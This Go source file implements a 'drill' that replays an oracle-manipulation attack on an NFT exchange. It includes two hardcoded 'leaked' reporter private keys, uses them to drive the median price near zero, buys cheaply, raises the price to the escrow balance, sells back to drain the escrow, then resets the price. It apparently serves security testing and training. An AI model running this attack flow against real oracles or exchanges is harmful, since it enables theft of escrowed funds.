// Package drill replays the compromised-reporter scenario against an
// exchange: leaked reporter keys move the median down, an attacker buys
// cheaply, the median is moved up to the escrow balance, the asset is sold
// back and the price is reset.
package drill

import (
	"context"
	"fmt"

	"github.com/ethereum/go-ethereum/common"
	"github.com/shopspring/decimal"

	"github.com/StrathCole/oracle-exchange/pkg/custody"
	"github.com/StrathCole/oracle-exchange/pkg/exchange"
	"github.com/StrathCole/oracle-exchange/pkg/journal"
	"github.com/StrathCole/oracle-exchange/pkg/keystore"
	"github.com/StrathCole/oracle-exchange/pkg/logging"
	"github.com/StrathCole/oracle-exchange/pkg/oracle"
)

// Scenario describes the reporter set and what the attacker holds.
type Scenario struct {
	Reporters     []common.Address
	LeakedKeys    []string
	AssetClass    string
	InitialPrice  decimal.Decimal
	InitialEscrow decimal.Decimal
	// LowPrice is posted before buying. It must be positive.
	LowPrice decimal.Decimal
}

// DefaultScenario is the three-reporter setup with two leaked keys.
func DefaultScenario() Scenario {
	return Scenario{
		Reporters: []common.Address{
			common.HexToAddress("0xA73209FB1a42495120166736362A1DfA9F95A105"),
			common.HexToAddress("0xe92401A4d3af5E446d93D11EEc806b1462b39D15"),
			common.HexToAddress("0x81A5D6E50C214044bE44cA0CB057fe119097850c"),
		},
		LeakedKeys: []string{
			"0xc678ef1aa456da65c6fc5861d44892cdfac0c6c8c2560bf0c9fbcdae2f4735a9",
			"0x208242c40acdfa9ed889e685c23547acbed9befc60371e9875fbcd736340bb48",
		},
		AssetClass:    "DVNFT",
		InitialPrice:  decimal.NewFromInt(999),
		InitialEscrow: decimal.NewFromInt(9990),
		LowPrice:      decimal.RequireFromString("0.001"),
	}
}

// Step is the observable state after one phase of the drill.
type Step struct {
	Name      string          `json:"name"`
	Consensus decimal.Decimal `json:"consensus"`
	Escrow    decimal.Decimal `json:"escrow"`
}

// Report summarizes a drill run.
type Report struct {
	Attacker         common.Address   `json:"attacker"`
	Compromised      []common.Address `json:"compromised"`
	AssetID          uint64           `json:"asset_id"`
	Paid             decimal.Decimal  `json:"paid"`
	Payout           decimal.Decimal  `json:"payout"`
	Profit           decimal.Decimal  `json:"profit"`
	InitialEscrow    decimal.Decimal  `json:"initial_escrow"`
	FinalEscrow      decimal.Decimal  `json:"final_escrow"`
	FinalConsensus   decimal.Decimal  `json:"final_consensus"`
	AttackerHoldings int              `json:"attacker_holdings"`
	Drained          bool             `json:"drained"`
	Steps            []Step           `json:"steps"`
}

// NewLocalVenue builds an in-process ledger, custody and exchange for s.
func NewLocalVenue(ctx context.Context, s Scenario, j journal.Journal, logger *logging.Logger) (*LocalVenue, error) {
	classes := make([]string, len(s.Reporters))
	prices := make([]decimal.Decimal, len(s.Reporters))
	for i := range s.Reporters {
		classes[i] = s.AssetClass
		prices[i] = s.InitialPrice
	}

	registry, err := oracle.NewTrustRegistry(s.Reporters, classes, prices)
	if err != nil {
		return nil, err
	}
	ledger, err := oracle.NewInitializedLedger(ctx, registry, nil, logger, oracle.WithJournal(j))
	if err != nil {
		return nil, err
	}

	operator, err := keystore.Generate()
	if err != nil {
		return nil, err
	}
	ex, err := exchange.New(ledger, custody.New(logger), exchange.Config{
		Address:       operator.Address(),
		AssetClass:    s.AssetClass,
		InitialEscrow: s.InitialEscrow,
	}, j, logger)
	if err != nil {
		return nil, err
	}

	return &LocalVenue{Ledger: ledger, Exchange: ex}, nil
}

// Run executes the scenario on venue with a freshly generated attacker.
func Run(ctx context.Context, venue Venue, s Scenario, logger *logging.Logger) (*Report, error) {
	if logger == nil {
		logger = logging.NewNoopLogger()
	}

	keys := make([]*keystore.Signer, 0, len(s.LeakedKeys))
	for _, secret := range s.LeakedKeys {
		k, err := keystore.Load(secret, "")
		if err != nil {
			return nil, err
		}
		keys = append(keys, k)
	}
	if err := checkKeys(keys, s.Reporters); err != nil {
		return nil, err
	}

	attacker, err := keystore.Generate()
	if err != nil {
		return nil, err
	}

	r := &Report{Attacker: attacker.Address()}
	for _, k := range keys {
		r.Compromised = append(r.Compromised, k.Address())
	}
	if r.InitialEscrow, err = venue.Escrow(ctx); err != nil {
		return nil, err
	}

	postAll := func(value decimal.Decimal) error {
		for _, k := range keys {
			if err := venue.PostPrice(ctx, k, s.AssetClass, value); err != nil {
				return fmt.Errorf("post as %s: %w", k.Address().Hex(), err)
			}
		}
		return nil
	}
	snapshot := func(name string) error {
		price, err := venue.Consensus(ctx, s.AssetClass)
		if err != nil {
			return err
		}
		escrow, err := venue.Escrow(ctx)
		if err != nil {
			return err
		}
		r.Steps = append(r.Steps, Step{Name: name, Consensus: price, Escrow: escrow})
		logger.Info("Drill step", "step", name, "consensus", price.String(), "escrow", escrow.String())
		return nil
	}

	if err := snapshot("initial"); err != nil {
		return nil, err
	}

	if err := postAll(s.LowPrice); err != nil {
		return nil, err
	}
	if err := snapshot("price_lowered"); err != nil {
		return nil, err
	}

	price, err := venue.Consensus(ctx, s.AssetClass)
	if err != nil {
		return nil, err
	}
	bought, err := venue.Buy(ctx, attacker, price)
	if err != nil {
		return nil, fmt.Errorf("buy: %w", err)
	}
	r.AssetID = bought.AssetID
	r.Paid = bought.Price
	if err := snapshot("bought"); err != nil {
		return nil, err
	}

	escrow, err := venue.Escrow(ctx)
	if err != nil {
		return nil, err
	}
	if err := postAll(escrow); err != nil {
		return nil, err
	}
	if err := snapshot("price_raised"); err != nil {
		return nil, err
	}

	exchangeAddr, err := venue.ExchangeAddress(ctx)
	if err != nil {
		return nil, err
	}
	if err := venue.Approve(ctx, attacker, bought.AssetID, exchangeAddr); err != nil {
		return nil, fmt.Errorf("approve: %w", err)
	}
	sold, err := venue.Sell(ctx, attacker, bought.AssetID)
	if err != nil {
		return nil, fmt.Errorf("sell: %w", err)
	}
	r.Payout = sold.Payout
	if err := snapshot("sold"); err != nil {
		return nil, err
	}

	if err := postAll(s.InitialPrice); err != nil {
		return nil, err
	}
	if err := snapshot("price_restored"); err != nil {
		return nil, err
	}

	last := r.Steps[len(r.Steps)-1]
	r.FinalEscrow = last.Escrow
	r.FinalConsensus = last.Consensus
	r.Profit = r.Payout.Sub(r.Paid)
	owner, err := venue.OwnerOf(ctx, bought.AssetID)
	if err != nil {
		return nil, err
	}
	if owner == attacker.Address() {
		r.AttackerHoldings = 1
	}
	r.Drained = r.FinalEscrow.IsZero()

	logger.Info("Drill finished",
		"attacker", attacker.Address().Hex(),
		"profit", r.Profit.String(),
		"final_escrow", r.FinalEscrow.String(),
		"drained", r.Drained)
	return r, nil
}

// checkKeys requires every key to be a reporter and enough of them to decide
// the median on their own.
func checkKeys(keys []*keystore.Signer, reporters []common.Address) error {
	trusted := make(map[common.Address]bool, len(reporters))
	for _, a := range reporters {
		trusted[a] = true
	}
	seen := make(map[common.Address]bool, len(keys))
	for _, k := range keys {
		if !trusted[k.Address()] {
			return fmt.Errorf("%w: %s", ErrKeyNotTrusted, k.Address().Hex())
		}
		seen[k.Address()] = true
	}

	// a strict majority fixes the median exactly
	need := len(reporters)/2 + 1
	if len(seen) < need {
		return fmt.Errorf("%w: have %d of %d, need %d", ErrNotEnoughKeys, len(seen), len(reporters), need)
	}
	return nil
}
